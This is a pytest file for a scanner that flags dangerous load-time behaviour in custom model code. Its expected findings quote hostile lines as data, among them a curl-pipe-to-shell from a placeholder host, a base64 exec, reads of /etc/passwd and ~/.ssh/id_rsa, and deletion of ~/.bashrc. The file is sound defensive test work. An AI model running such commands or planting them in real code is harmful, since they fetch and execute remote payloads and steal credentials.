from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from aibom.analyzers.remote_code import analyze_source
from aibom.model import Location, ScanError

CUSTOM = Path(__file__).resolve().parents[2] / "fixtures" / "models" / "hf" / "custom-code"


def issues(source: str) -> list[tuple[str, int | None, str, str]]:
    """(kind, line, where, detail) for a module's issues."""
    result = analyze_source(textwrap.dedent(source).encode(), "m.py")
    assert result.errors == []
    return [
        (i.kind, i.location.line, i.arg_dict["where"], i.arg_dict["detail"]) for i in result.issues
    ]


def test_benign_modeling_file_has_no_issues() -> None:
    result = analyze_source((CUSTOM / "modeling_ok.py").read_bytes(), "modeling_ok.py")
    assert result.issues == []
    assert result.errors == []
    assert result.imports == ["math", "os", "torch", "transformers"]


def test_malicious_modeling_file() -> None:
    result = analyze_source((CUSTOM / "modeling_evil.py").read_bytes(), "modeling_evil.py")
    assert [(i.kind, i.location, i.arg_dict) for i in result.issues] == [
        (
            "remote-code:command",
            Location("modeling_evil.py", 9),
            {
                "what": "runs a command",
                "where": "module level",
                "detail": 'os.system("curl -s https://example.invalid/payload | sh")',
            },
        ),
        (
            "remote-code:eval",
            Location("modeling_evil.py", 18),
            {
                "what": "evaluates a string as code",
                "where": "EvilModel._setup()",
                "detail": 'exec(base64.b64decode("cHJpbnQoJ3B3bmVkJyk=")) (of decoded data)',
            },
        ),
        (
            "remote-code:file-outside",
            Location("modeling_evil.py", 19),
            {
                "what": "touches a file outside the model folder",
                "where": "EvilModel._setup()",
                "detail": 'open("/etc/passwd")',
            },
        ),
        (
            "remote-code-later:command",
            Location("modeling_evil.py", 22),
            {
                "what": "runs a command",
                "where": "EvilModel.generate_extra()",
                "detail": 'sp.run(["wget", "https://example.invalid/more"])',
            },
        ),
    ]


def test_aliases_and_indirection_are_resolved() -> None:
    assert issues(
        """
        import importlib
        from subprocess import check_output as co
        import os as o

        co(["id"])
        getattr(o, "system")("id")
        __import__("os").popen("id")
        importlib.import_module("subprocess").call("id")
        mod = importlib.import_module(NAME)
        getattr(o, "sys" + "tem")("id")
        """
    ) == [
        ("remote-code:command", 6, "module level", 'co(["id"])'),
        ("remote-code:command", 7, "module level", 'getattr(o, "system")("id")'),
        ("remote-code:command", 8, "module level", '__import__("os").popen("id")'),
        (
            "remote-code:command",
            9,
            "module level",
            'importlib.import_module("subprocess").call("id")',
        ),
        ("remote-code:dynamic-import", 10, "module level", "importlib.import_module(NAME)"),
        ("remote-code:dynamic-attribute", 11, "module level", 'getattr(o, "sys" + "tem")'),
    ]


def test_load_time_reachability() -> None:
    assert issues(
        """
        import socket, pickle, marshal, ctypes, shutil, requests
        from pathlib import Path

        def helper():
            socket.create_connection(("example.invalid", 80))

        def unused():
            pickle.loads(DATA)

        class Config:
            ctypes.CDLL("libevil.so")

            def __init__(self):
                self.prepare()

            def prepare(self):
                requests.get("https://example.invalid")

            @classmethod
            def from_pretrained(cls, path):
                return marshal.loads(path)

            def cleanup(self):
                shutil.rmtree(self.cache)

        helper()
        Path("/etc/hosts").read_text()
        """
    ) == [
        ("remote-code:network", 6, "helper()", 'socket.create_connection(("example.invalid", 80))'),
        ("remote-code-later:deserialize", 9, "unused()", "pickle.loads(DATA)"),
        ("remote-code:native-code", 12, "class Config body", 'ctypes.CDLL("libevil.so")'),
        ("remote-code:network", 18, "Config.prepare()", 'requests.get("https://example.invalid")'),
        ("remote-code:deserialize", 22, "Config.from_pretrained()", "marshal.loads(path)"),
        ("remote-code-later:delete", 25, "Config.cleanup()", "shutil.rmtree(self.cache)"),
        ("remote-code:file-outside", 28, "module level", 'Path("/etc/hosts").read_text()'),
    ]


def test_decorators_and_defaults_run_at_import() -> None:
    assert issues(
        """
        import os

        def register(x=os.system("id")):
            return lambda f: f

        @register(eval("1"))
        def f():
            pass
        """
    ) == [
        ("remote-code:command", 4, "module level", 'os.system("id")'),
        ("remote-code:eval", 7, "module level", 'eval("1")'),
    ]


def test_ordinary_modelling_calls_are_not_flagged() -> None:
    assert (
        issues(
            """
            import os, re, torch
            from torch import nn

            PATTERN = re.compile("layer\\\\.(\\\\d+)")

            def eval(x):
                return x

            class M(nn.Module):
                def __init__(self, config):
                    super().__init__()
                    self.eval()
                    self.fn = torch.compile(self.forward)
                    eval(3)
                    path = os.path.join(config.name_or_path, "vocab.txt")
                    with open(path) as fh:
                        self.vocab = fh.read()
                    with open("vocab.json") as fh:
                        pass
                    state = torch.load(path, weights_only=True)
                    os.makedirs(os.path.join("cache", "x"), exist_ok=True)
            """
        )
        == []
    )


def test_torch_load_with_weights_only_false() -> None:
    assert issues(
        """
        import torch
        class M:
            def __init__(self):
                torch.load("extra.bin", weights_only=False)
        """
    ) == [
        (
            "remote-code:deserialize",
            5,
            "M.__init__()",
            'torch.load("extra.bin", weights_only=False) (weights_only=False)',
        )
    ]


def test_relative_paths_that_climb_out_are_flagged() -> None:
    assert issues(
        """
        import os
        open("../../.ssh/id_rsa")
        open("sub/../ok.txt")
        os.remove(os.path.expanduser("~/.bashrc"))
        """
    ) == [
        ("remote-code:file-outside", 3, "module level", 'open("../../.ssh/id_rsa")'),
        (
            "remote-code:file-outside",
            5,
            "module level",
            'os.remove(os.path.expanduser("~/.bashrc"))',
        ),
    ]


@pytest.mark.parametrize(
    ("source", "error"),
    [
        (
            b"def f(:\n    pass\n",
            ScanError(Location("m.py", 1), "Python syntax error: invalid syntax"),
        ),
        (
            b"x = 1\x00\n",
            ScanError(
                Location("m.py"),
                "Python syntax error: source code string cannot contain null bytes",
            ),
        ),
        (
            b"x = " + b"(" * 300 + b")" * 300,
            ScanError(Location("m.py", 1), "Python syntax error: too many nested parentheses"),
        ),
        (
            b"# " + b"x" * (5 * 1024 * 1024),
            ScanError(Location("m.py"), "Python file larger than 5242880 bytes: not analysed"),
        ),
    ],
)
def test_unparsable_files_are_scan_errors(source: bytes, error: ScanError) -> None:
    result = analyze_source(source, "m.py")
    assert result.errors == [error]
    assert result.issues == []


def test_very_deep_expressions_do_not_crash() -> None:
    source = b"x = " + b"-" * 50_000 + b"1\n"
    result = analyze_source(source, "m.py")
    assert len(result.errors) == 1
    assert result.errors[0].location == Location("m.py")


def test_main_block_does_not_run_on_import() -> None:
    assert issues(
        """
        import os

        if __name__ == "__main__":
            os.system("python train.py")
        else:
            os.system("id")
        """
    ) == [
        ("remote-code-later:command", 5, "the __main__ block", 'os.system("python train.py")'),
        ("remote-code:command", 7, "module level", 'os.system("id")'),
    ]


def test_callables_bound_to_names_are_resolved() -> None:
    assert issues(
        """
        import os, subprocess, torch

        run = subprocess.run
        shell = os
        ev = eval
        layer = torch.nn.Linear

        run(["id"])
        shell.system("id")
        ev("1 + 1")
        layer(2, 2)
        """
    ) == [
        ("remote-code:command", 9, "module level", 'run(["id"])'),
        ("remote-code:command", 10, "module level", 'shell.system("id")'),
        ("remote-code:eval", 11, "module level", 'ev("1 + 1")'),
    ]


def test_relative_import_inside_a_fixed_package_is_not_dynamic() -> None:
    assert issues(
        """
        import importlib
        importlib.import_module(f".{name}", "transformers.models")
        importlib.import_module(f"..{name}", "transformers.models")
        importlib.import_module(name, "transformers.models")
        """
    ) == [
        (
            "remote-code:dynamic-import",
            4,
            "module level",
            'importlib.import_module(f"..{name}", "transformers.models")',
        ),
        (
            "remote-code:dynamic-import",
            5,
            "module level",
            'importlib.import_module(name, "transformers.models")',
        ),
    ]


def test_dangerous_functions_handed_to_other_calls() -> None:
    assert issues(
        """
        import atexit, os, threading, subprocess

        atexit.register(os.system, "id")
        threading.Thread(target=subprocess.Popen, args=(["id"],)).start()
        list(map(eval, ["1"]))
        subprocess.run(["ls"], stdout=subprocess.PIPE)
        sorted([3, 1], key=len)
        """
    ) == [
        (
            "remote-code:command",
            4,
            "module level",
            'atexit.register(os.system, "id") (hands over os.system)',
        ),
        (
            "remote-code:command",
            5,
            "module level",
            'threading.Thread(target=subprocess.Popen, args=(["id"],)) '
            "(hands over subprocess.Popen)",
        ),
        ("remote-code:eval", 6, "module level", 'map(eval, ["1"]) (hands over builtins.eval)'),
        (
            "remote-code:command",
            7,
            "module level",
            'subprocess.run(["ls"], stdout=subprocess.PIPE)',
        ),
    ]


def test_redefined_functions_keep_every_body() -> None:
    assert issues(
        """
        import os

        try:
            def setup():
                os.system("id")
        except ImportError:
            def setup():
                pass

        class M:
            def __init__(self):
                setup()
        """
    ) == [("remote-code:command", 6, "setup()", 'os.system("id")')]
